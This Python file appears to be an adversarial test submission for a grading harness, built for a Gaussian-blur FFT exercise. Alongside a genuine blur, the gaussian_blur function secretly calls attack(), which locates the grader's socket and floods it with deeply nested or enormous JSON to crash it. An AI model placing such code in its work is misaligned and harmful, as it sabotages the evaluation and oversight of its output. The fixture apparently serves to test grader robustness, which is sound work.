# Sends JSON so deep or so wide that reading it takes the reader down.
# exercise: fft_callbacks/gaussian_blur
# expect: failed values crashed; memory_space crashed; inputs_unchanged crashed; fused crashed

import os
import stat
import struct

import cupy as cp
import numpy as np
import nvmath


def multiply(out, offset, value, response, _):
    out[offset] = value * response[offset]


EPILOG = nvmath.fft.compile_epilog(multiply, "complex64", "float32")


def blurred(image, sigma):
    height, width = image.shape
    fy, fx = np.fft.fftfreq(height)[:, None], np.fft.rfftfreq(width)[None, :]
    response = np.exp(-2 * np.pi**2 * sigma**2 * (fx**2 + fy**2)) / (height * width)
    data = cp.asarray(response.astype(np.float32))
    spectrum = nvmath.fft.rfft(image, epilog={"ltoir": EPILOG, "data": data.data.ptr})
    parity = "odd" if width % 2 else "even"
    return nvmath.fft.irfft(spectrum, options={"last_axis_parity": parity})


def channel():
    """Find the worker's end of the socket to the grader."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def send(data):
    view = memoryview(data)
    while view:
        view = view[os.write(channel(), view[:65536]) :]


def attack():
    for body in (b"[" * 2**20, b'{"a":' * 2**20, b"[" + b"[]," * 2**22 + b"[]]", b"9" * 2**20):
        send(struct.pack("!4sIQ", b"GPX1", len(body), 0) + body)


def gaussian_blur(image, sigma):
    attack()
    return blurred(image, sigma)
